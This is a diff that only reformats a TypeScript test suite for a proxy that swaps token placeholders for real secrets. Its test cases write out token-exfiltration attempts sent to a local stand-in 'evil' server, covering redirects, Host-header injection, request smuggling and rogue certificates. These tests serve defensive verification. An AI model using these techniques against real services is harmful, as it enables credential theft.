@@ -5,7 +5,7 @@
 import { strict as assert } from 'node:assert';
 import http from 'node:http';
 import https from 'node:https';
-import { connect, createServer, type AddressInfo, type Socket } from 'node:net';
+import { type AddressInfo, connect, createServer, type Socket } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import tls from 'node:tls';
@@ -53,7 +53,10 @@ describe('Attacks on the wire', () => {
 
   beforeEach(async () => {
     const [allowed, evil] = [await serve(), await serve()];
-    const [allowedTls, evilTls] = [await serve({ tls: allowedCertificate }), await serve({ tls: otherCertificate })];
+    const [allowedTls, evilTls] = [
+      await serve({ tls: allowedCertificate }),
+      await serve({ tls: otherCertificate }),
+    ];
     const hosts = [`127.0.0.1:${allowed.port}`, `api.allowed.test:${allowedTls.port}`, 'api.allowed.test'];
     client = clientFor('outlet', hosts);
     const fixture = startWire([client]);
@@ -69,52 +72,100 @@ describe('Attacks on the wire', () => {
 
   describe('by what a file says', () => {
     const attacks: readonly (readonly [title: string, attempt: Attempt])[] = [
-      ['a file variable named like a reference, in a header', async ({ evil, token }) =>
-        send(urlOf(evil), { headers: { authorization: `Bearer ${token}` } })],
-      ['a variable defined in a script block, in a JSON body', async ({ evil, token }) =>
-        send(urlOf(evil), { method: 'POST', headers: json, body: JSON.stringify({ token }) })],
-      ['the header of an earlier request that was allowed, copied into another', async ({ allowed, evil, token }) => {
-        const request = http.get(urlOf(allowed), { headers: { authorization: `Bearer ${token}` } });
-        await new Promise((resolve) => request.on('response', (response) => response.resume().on('end', resolve)));
-        assert.ok(allowed.received().includes(realToken));
-        return send(urlOf(evil), { headers: { 'x-copied': String(request.getHeader('authorization')) } });
-      }],
-      ['a host from another .env file than the one that was read, in the query', async ({ evil, token }) =>
-        send(`${urlOf(evil)}/?t=${token}`)],
-      ['an indented separator, which makes the next request part of a body', async ({ evil, token }) =>
-        send(urlOf(evil), { method: 'POST', body: `a\n ###\nGET https://api.allowed.test/\nX-Token: ${token}\n` })],
-      ['a request named in other letters, in a form', async ({ evil, token }) =>
-        send(urlOf(evil), { method: 'POST', headers: form, body: `token=${token}` })],
-      ['a variable whose name is a regular expression, in the path', async ({ evil, token }) =>
-        send(`${urlOf(evil)}/${token}/a`)],
-      ['a body that becomes a file only after replacement, as a stream', async ({ evil, token }) =>
-        streamed(urlOf(evil), {}, [`line\n${token}`, '\nline'])],
-      ['default headers with an allowed host, sent to another', async ({ evil, allowed, token }) =>
-        send(urlOf(evil), { headers: { host: `127.0.0.1:${allowed.port}`, 'x-token': token } })],
-      ['a line break in a value, as a second Host header', async ({ evil, allowed, token }) =>
-        send(urlOf(evil), { headers: ['Host', `127.0.0.1:${allowed.port}`, 'Host', 'evil.test', 'X-Token', token] as never })],
-      ['a proxy for plain HTTP', async ({ evil, allowed, token }) =>
-        send(urlOf(evil), {
-          path: `http://127.0.0.1:${allowed.port}/`,
-          headers: { host: `127.0.0.1:${allowed.port}`, 'x-token': token },
-        })],
-      ['a proxy that answers in place of the allowed host, with certificates not verified', async ({ evilTls, token }) =>
-        throughTunnel(evilTls.port, { 'x-token': token }, servers)],
-      ['a value of the environment in a data file, in a multipart body', async ({ evil, token }) =>
-        send(urlOf(evil), {
-          method: 'POST',
-          headers: { 'content-type': 'multipart/form-data; boundary=b' },
-          body: `--b\r\nContent-Disposition: form-data; name="t"\r\n\r\n${token}\r\n--b--\r\n`,
-        })],
-      ['a redirect that carries a header along', async ({ allowed, evil, token }) =>
-        redirected(allowed, evil, 302, { 'x-token': token })],
-      ['a redirect that carries the body along', async ({ allowed, evil, token }) =>
-        redirected(allowed, evil, 307, {}, token)],
-      ['a retry at a second origin after a 401', async ({ allowed, evil, token }) => {
-        allowed.answer = 'HTTP/1.1 401 Unauthorized\r\ncontent-length: 0\r\n\r\n';
-        await send(urlOf(allowed), { headers: { 'x-token': token } });
-        return send(urlOf(evil), { headers: { authorization: `Bearer ${token}` } });
-      }],
+      [
+        'a file variable named like a reference, in a header',
+        async ({ evil, token }) => send(urlOf(evil), { headers: { authorization: `Bearer ${token}` } }),
+      ],
+      [
+        'a variable defined in a script block, in a JSON body',
+        async ({ evil, token }) =>
+          send(urlOf(evil), { method: 'POST', headers: json, body: JSON.stringify({ token }) }),
+      ],
+      [
+        'the header of an earlier request that was allowed, copied into another',
+        async ({ allowed, evil, token }) => {
+          const request = http.get(urlOf(allowed), { headers: { authorization: `Bearer ${token}` } });
+          await new Promise((resolve) =>
+            request.on('response', (response) => response.resume().on('end', resolve)),
+          );
+          assert.ok(allowed.received().includes(realToken));
+          return send(urlOf(evil), { headers: { 'x-copied': String(request.getHeader('authorization')) } });
+        },
+      ],
+      [
+        'a host from another .env file than the one that was read, in the query',
+        async ({ evil, token }) => send(`${urlOf(evil)}/?t=${token}`),
+      ],
+      [
+        'an indented separator, which makes the next request part of a body',
+        async ({ evil, token }) =>
+          send(urlOf(evil), {
+            method: 'POST',
+            body: `a\n ###\nGET https://api.allowed.test/\nX-Token: ${token}\n`,
+          }),
+      ],
+      [
+        'a request named in other letters, in a form',
+        async ({ evil, token }) =>
+          send(urlOf(evil), { method: 'POST', headers: form, body: `token=${token}` }),
+      ],
+      [
+        'a variable whose name is a regular expression, in the path',
+        async ({ evil, token }) => send(`${urlOf(evil)}/${token}/a`),
+      ],
+      [
+        'a body that becomes a file only after replacement, as a stream',
+        async ({ evil, token }) => streamed(urlOf(evil), {}, [`line\n${token}`, '\nline']),
+      ],
+      [
+        'default headers with an allowed host, sent to another',
+        async ({ evil, allowed, token }) =>
+          send(urlOf(evil), { headers: { host: `127.0.0.1:${allowed.port}`, 'x-token': token } }),
+      ],
+      [
+        'a line break in a value, as a second Host header',
+        async ({ evil, allowed, token }) =>
+          send(urlOf(evil), {
+            headers: ['Host', `127.0.0.1:${allowed.port}`, 'Host', 'evil.test', 'X-Token', token] as never,
+          }),
+      ],
+      [
+        'a proxy for plain HTTP',
+        async ({ evil, allowed, token }) =>
+          send(urlOf(evil), {
+            path: `http://127.0.0.1:${allowed.port}/`,
+            headers: { host: `127.0.0.1:${allowed.port}`, 'x-token': token },
+          }),
+      ],
+      [
+        'a proxy that answers in place of the allowed host, with certificates not verified',
+        async ({ evilTls, token }) => throughTunnel(evilTls.port, { 'x-token': token }, servers),
+      ],
+      [
+        'a value of the environment in a data file, in a multipart body',
+        async ({ evil, token }) =>
+          send(urlOf(evil), {
+            method: 'POST',
+            headers: { 'content-type': 'multipart/form-data; boundary=b' },
+            body: `--b\r\nContent-Disposition: form-data; name="t"\r\n\r\n${token}\r\n--b--\r\n`,
+          }),
+      ],
+      [
+        'a redirect that carries a header along',
+        async ({ allowed, evil, token }) => redirected(allowed, evil, 302, { 'x-token': token }),
+      ],
+      [
+        'a redirect that carries the body along',
+        async ({ allowed, evil, token }) => redirected(allowed, evil, 307, {}, token),
+      ],
+      [
+        'a retry at a second origin after a 401',
+        async ({ allowed, evil, token }) => {
+          allowed.answer = 'HTTP/1.1 401 Unauthorized\r\ncontent-length: 0\r\n\r\n';
+          await send(urlOf(allowed), { headers: { 'x-token': token } });
+          return send(urlOf(evil), { headers: { authorization: `Bearer ${token}` } });
+        },
+      ],
     ];
     for (const [title, attempt] of attacks) {
       it(`send nothing to a host that is not allowed: ${title}`, async () => {
@@ -146,7 +197,10 @@ describe('Attacks on the wire', () => {
         const { allowedTls, token } = scene;
         const headers = { host: host(allowedTls.port), 'x-token': token };
         const options = { headers, servername: 'api.allowed.test' };
-        assert.equal(codeOf(await send(`https://api.allowed.test:${allowedTls.port}`, options)), 'host-not-allowed');
+        assert.equal(
+          codeOf(await send(`https://api.allowed.test:${allowedTls.port}`, options)),
+          'host-not-allowed',
+        );
         assertNothingLeft(scene);
         assert.equal(allowedTls.received(), '');
       });
@@ -155,7 +209,10 @@ describe('Attacks on the wire', () => {
     it('is released to an allowed host whose name is written in capital letters', async () => {
       const { allowedTls, token } = scene;
       const headers = { host: `API.Allowed.Test:${allowedTls.port}`, 'x-token': token };
-      assert.equal(codeOf(await send(`https://api.allowed.test:${allowedTls.port}`, { headers })), 'status 200');
+      assert.equal(
+        codeOf(await send(`https://api.allowed.test:${allowedTls.port}`, { headers })),
+        'status 200',
+      );
       assert.ok(allowedTls.received().includes(realToken));
     });
 
@@ -171,7 +228,10 @@ describe('Attacks on the wire', () => {
         const hosts = [`127.0.0.1:${evil.port}`, `localhost:${evil.port}`, `[::1]:${evil.port}`];
         for (const host of hosts) {
           const headers = { host, 'x-token': fixture.placeholder(own) };
-          const answer = await send(`http://${address.includes(':') ? `[${address}]` : address}:${evil.port}`, { headers });
+          const answer = await send(
+            `http://${address.includes(':') ? `[${address}]` : address}:${evil.port}`,
+            { headers },
+          );
           assert.equal(codeOf(answer), 'host-not-allowed');
         }
         fixture.wire.dispose();
@@ -184,7 +244,10 @@ describe('Attacks on the wire', () => {
       const path = join(tmpdir(), `kunci-wire-${process.pid}.sock`);
       const evil = await serve({ path });
       const headers = { host: `127.0.0.1:${scene.allowed.port}`, 'x-token': scene.token };
-      assert.equal(codeOf(await send(urlOf(scene.allowed), { socketPath: path, headers })), 'host-not-allowed');
+      assert.equal(
+        codeOf(await send(urlOf(scene.allowed), { socketPath: path, headers })),
+        'host-not-allowed',
+      );
       assert.equal(evil.received(), '');
     });
   });
@@ -209,17 +272,50 @@ describe('Attacks on the wire', () => {
   describe('by framing', () => {
     const smuggled = 'GET /smuggled HTTP/1.1\r\nHost: evil.test\r\n\r\n';
     const framings: readonly (readonly [title: string, options: http.RequestOptions, body: string])[] = [
-      ['a Content-Length that is too short', { method: 'POST', headers: { 'content-length': '1' } }, smuggled],
-      ['a Content-Length that is too long', { method: 'POST', headers: { 'content-length': '9999' } }, smuggled],
-      ['a Content-Length with a sign', { method: 'POST', headers: { 'content-length': `+${smuggled.length}` } }, smuggled],
-      ['a Content-Length with a zero in front', { method: 'POST', headers: { 'content-length': `0${smuggled.length}` } }, smuggled],
+      [
+        'a Content-Length that is too short',
+        { method: 'POST', headers: { 'content-length': '1' } },
+        smuggled,
+      ],
+      [
+        'a Content-Length that is too long',
+        { method: 'POST', headers: { 'content-length': '9999' } },
+        smuggled,
+      ],
+      [
+        'a Content-Length with a sign',
+        { method: 'POST', headers: { 'content-length': `+${smuggled.length}` } },
+        smuggled,
+      ],
+      [
+        'a Content-Length with a zero in front',
+        { method: 'POST', headers: { 'content-length': `0${smuggled.length}` } },
+        smuggled,
+      ],
       ['a body of GET without any length', { method: 'GET' }, smuggled],
-      ['Content-Length beside chunks', {
-        method: 'POST', headers: { 'content-length': '5', 'transfer-encoding': 'chunked' },
-      }, smuggled],
-      ['a transfer coding that is not chunked', { method: 'POST', headers: { 'transfer-encoding': 'identity' } }, smuggled],
-      ['an obfuscated transfer coding', { method: 'POST', headers: { 'transfer-encoding': 'xchunked' } }, smuggled],
-      ['two transfer codings', { method: 'POST', headers: { 'transfer-encoding': ['chunked', 'identity'] as never } }, smuggled],
+      [
+        'Content-Length beside chunks',
+        {
+          method: 'POST',
+          headers: { 'content-length': '5', 'transfer-encoding': 'chunked' },
+        },
+        smuggled,
+      ],
+      [
+        'a transfer coding that is not chunked',
+        { method: 'POST', headers: { 'transfer-encoding': 'identity' } },
+        smuggled,
+      ],
+      [
+        'an obfuscated transfer coding',
+        { method: 'POST', headers: { 'transfer-encoding': 'xchunked' } },
+        smuggled,
+      ],
+      [
+        'two transfer codings',
+        { method: 'POST', headers: { 'transfer-encoding': ['chunked', 'identity'] as never } },
+        smuggled,
+      ],
       ['gzip and chunked', { method: 'POST', headers: { 'transfer-encoding': 'gzip, chunked' } }, smuggled],
     ];
     for (const [title, options, body] of framings) {
@@ -232,8 +328,11 @@ describe('Attacks on the wire', () => {
     }
 
     it('is written anew with chunks of which the last has trailers, and values go there too', async () => {
-      const answer = await streamed(urlOf(scene.allowed), { trailer: 'x-end', 'x-token': scene.token }, ['a', 'b'], (request) =>
-        request.addTrailers({ 'x-end': scene.token }),
+      const answer = await streamed(
+        urlOf(scene.allowed),
+        { trailer: 'x-end', 'x-token': scene.token },
+        ['a', 'b'],
+        (request) => request.addTrailers({ 'x-end': scene.token }),
       );
       assert.equal(answer, 200);
       assert.ok(scene.allowed.received().endsWith(`\r\n\r\n2\r\nab\r\n0\r\nx-end: ${realToken}\r\n\r\n`));
@@ -249,7 +348,9 @@ describe('Attacks on the wire', () => {
 
     it('waits with Expect: 100-continue for a sender that writes at once', async () => {
       const answer = await send(urlOf(scene.allowed), {
-        method: 'PUT', headers: { expect: '100-continue', 'content-length': '2', 'x-token': scene.token }, body: 'ab',
+        method: 'PUT',
+        headers: { expect: '100-continue', 'content-length': '2', 'x-token': scene.token },
+        body: 'ab',
       });
       assert.equal(codeOf(answer), 'status 200');
       assert.ok(scene.allowed.received().includes(realToken));
@@ -259,9 +360,12 @@ describe('Attacks on the wire', () => {
       const upgrade = { connection: 'Upgrade', upgrade: 'websocket', 'x-token': scene.token };
       assert.equal(codeOf(await send(urlOf(scene.evil), { headers: upgrade })), 'host-not-allowed');
       assert.equal(scene.evil.received(), '');
-      scene.allowed.answer = 'HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n';
+      scene.allowed.answer =
+        'HTTP/1.1 101 Switching Protocols\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n';
       const request = http.get(urlOf(scene.allowed), { headers: upgrade });
-      await new Promise<void>((resolve) => request.on('upgrade', (_, socket) => resolve(void socket.destroy())));
+      await new Promise<void>((resolve) =>
+        request.on('upgrade', (_, socket) => resolve(void socket.destroy())),
+      );
       assert.ok(scene.allowed.received().includes(`x-token: ${realToken}\r\n`));
     });
   });
@@ -306,7 +410,10 @@ describe('Attacks on the wire', () => {
 
     it('is replaced each time, side by side, twice in a line and in two pieces', async () => {
       const { token, allowed } = scene;
-      await streamed(urlOf(allowed), { 'x-token': `${token}${token}` }, [`<${token.slice(0, 9)}`, `${token.slice(9)}>${token}0`]);
+      await streamed(urlOf(allowed), { 'x-token': `${token}${token}` }, [
+        `<${token.slice(0, 9)}`,
+        `${token.slice(9)}>${token}0`,
+      ]);
       const received = allowed.received();
       assert.ok(received.includes(`x-token: ${realToken}${realToken}\r\n`));
       assert.ok(received.includes(`<${realToken}>${realToken}0`));
@@ -314,26 +421,55 @@ describe('Attacks on the wire', () => {
 
     it('is replaced literally by a value that looks like a replacement pattern', async () => {
       scene.fixture.tokenOf = async () => "$&$1$`$'$$";
-      await send(urlOf(scene.allowed), { method: 'POST', headers: { 'x-token': scene.token }, body: scene.token });
+      await send(urlOf(scene.allowed), {
+        method: 'POST',
+        headers: { 'x-token': scene.token },
+        body: scene.token,
+      });
       assert.ok(scene.allowed.received().includes("x-token: $&$1$`$'$$\r\n"));
       assert.ok(scene.allowed.received().endsWith("\r\n\r\n$&$1$`$'$$"));
     });
 
     it('leaves a header that ends with a byte which a script counts as a space as it is', async () => {
-      await send(urlOf(scene.allowed), { method: 'POST', headers: { 'x-name': 'Voil\u00e0', 'x-token': scene.token }, body: 'é' });
+      await send(urlOf(scene.allowed), {
+        method: 'POST',
+        headers: { 'x-name': 'Voil\u00e0', 'x-token': scene.token },
+        body: 'é',
+      });
       assert.ok(scene.allowed.received().includes('x-name: Voil\u00c3\u00a0\r\n'));
     });
   });
 
   describe('by certificates', () => {
-    const certificates: readonly (readonly [title: string, certificate: { key: string; cert: string }, options: tls.ConnectionOptions])[] = [
+    const certificates: readonly (readonly [
+      title: string,
+      certificate: { key: string; cert: string },
+      options: tls.ConnectionOptions,
+    ])[] = [
       ['a root of the sender’s own', namesakeCertificate, { ca: namesakeRoot }],
-      ['a root of the sender’s own beside a trusted one', namesakeCertificate, { ca: [testRoot, namesakeRoot] }],
-      ['a root in the sender’s secure context', namesakeCertificate, {
-        secureContext: tls.createSecureContext({ ca: namesakeRoot }), ca: undefined,
-      }],
-      ['an authority made of another host’s valid certificate', forgedCertificate, { ca: [forgingRoot, testRoot] }],
-      ['an authority in a PKCS #12 file', forgedCertificate, { pfx: forgingPfx, passphrase: 'x', ca: undefined }],
+      [
+        'a root of the sender’s own beside a trusted one',
+        namesakeCertificate,
+        { ca: [testRoot, namesakeRoot] },
+      ],
+      [
+        'a root in the sender’s secure context',
+        namesakeCertificate,
+        {
+          secureContext: tls.createSecureContext({ ca: namesakeRoot }),
+          ca: undefined,
+        },
+      ],
+      [
+        'an authority made of another host’s valid certificate',
+        forgedCertificate,
+        { ca: [forgingRoot, testRoot] },
+      ],
+      [
+        'an authority in a PKCS #12 file',
+        forgedCertificate,
+        { pfx: forgingPfx, passphrase: 'x', ca: undefined },
+      ],
     ];
     for (const [title, certificate, options] of certificates) {
       it(`that only the sender's settings trust get nothing: ${title}`, async () => {
@@ -356,7 +492,13 @@ describe('Attacks on the wire', () => {
       servers.push(evil);
       const own = clientFor('own', [`api.allowed.test:${evil.port}`]);
       const fixture = startWire([own]);
-      const options = { host: '127.0.0.1', port: evil.port, servername: 'api.allowed.test', rejectUnauthorized: false, ca: testRoot };
+      const options = {
+        host: '127.0.0.1',
+        port: evil.port,
+        servername: 'api.allowed.test',
+        rejectUnauthorized: false,
+        ca: testRoot,
+      };
       const socket = tls.connect(options);
       await new Promise((resolve) => socket.once('secureConnect', resolve));
       trustAsByDefault(socket);
@@ -385,7 +527,11 @@ describe('Attacks on the wire', () => {
   });
 
   describe('by what changes while a person is asked', () => {
-    const changes: readonly (readonly [title: string, change: (entry: Client) => Client | undefined, code: string])[] = [
+    const changes: readonly (readonly [
+      title: string,
+      change: (entry: Client) => Client | undefined,
+      code: string,
+    ])[] = [
       ['the host is taken off the client', (entry) => ({ ...entry, allowedHosts: [] }), 'host-not-allowed'],
       ['the client is removed', () => undefined, 'cancelled'],
       ['the client is another one', (entry) => ({ ...entry, clientId: 'other' }), 'cancelled'],
@@ -395,9 +541,10 @@ describe('Attacks on the wire', () => {
       for (const [title, change, code] of changes) {
         it(`is noticed before anything leaves, after the wait for ${waiting}: ${title}`, async () => {
           let goOn: () => void = () => undefined;
-          const wait = (): Promise<void> => new Promise((resolve) => {
-            goOn = resolve;
-          });
+          const wait = (): Promise<void> =>
+            new Promise((resolve) => {
+              goOn = resolve;
+            });
           let current: Client | undefined = client;
           scene.fixture.wire.dispose();
           const fixture = startWire([client], {
@@ -440,9 +587,13 @@ function streamed(
   before: (request: http.ClientRequest) => void = () => undefined,
 ): Promise<unknown> {
   return new Promise((resolve) => {
-    const request = http.request(url, { method: 'POST', headers: { ...headers, 'transfer-encoding': 'chunked' } }, (response) => {
-      response.resume().on('end', () => resolve(response.statusCode));
-    });
+    const request = http.request(
+      url,
+      { method: 'POST', headers: { ...headers, 'transfer-encoding': 'chunked' } },
+      (response) => {
+        response.resume().on('end', () => resolve(response.statusCode));
+      },
+    );
     request.on('error', resolve);
     for (const piece of pieces) request.write(piece);
     before(request);
@@ -460,14 +611,22 @@ async function redirected(
 ): Promise<unknown> {
   const location = `http://127.0.0.1:${to.port}/`;
   from.answer = `HTTP/1.1 ${status} Moved\r\nlocation: ${location}\r\ncontent-length: 0\r\n\r\n`;
-  const options = { method: body === undefined ? 'GET' : 'POST', headers, ...(body === undefined ? {} : { body }) };
+  const options = {
+    method: body === undefined ? 'GET' : 'POST',
+    headers,
+    ...(body === undefined ? {} : { body }),
+  };
   assert.equal(codeOf(await send(`http://127.0.0.1:${from.port}`, options)), `status ${status}`);
   assert.ok(from.received().includes(realToken));
   return send(location, options);
 }
 
 /** A CONNECT proxy that leads everybody to one server. */
-async function throughTunnel(port: number, headers: http.OutgoingHttpHeaders, servers: { stop(): unknown }[]): Promise<unknown> {
+async function throughTunnel(
+  port: number,
+  headers: http.OutgoingHttpHeaders,
+  servers: { stop(): unknown }[],
+): Promise<unknown> {
   const proxy = createServer((socket: Socket) => {
     socket.once('data', () => {
       socket.write('HTTP/1.1 200 Connection established\r\n\r\n');
@@ -490,7 +649,9 @@ async function throughTunnel(port: number, headers: http.OutgoingHttpHeaders, se
 
 /** As if the sender had set no roots: the root of the tests is none of Node's own. */
 function trustAsByDefault(socket: tls.TLSSocket): void {
-  const symbol = Object.getOwnPropertySymbols(socket).find(({ description }) => description === 'connect-options');
+  const symbol = Object.getOwnPropertySymbols(socket).find(
+    ({ description }) => description === 'connect-options',
+  );
   assert.ok(symbol);
   delete (socket as unknown as Record<symbol, { ca?: unknown }>)[symbol]?.ca;
 }
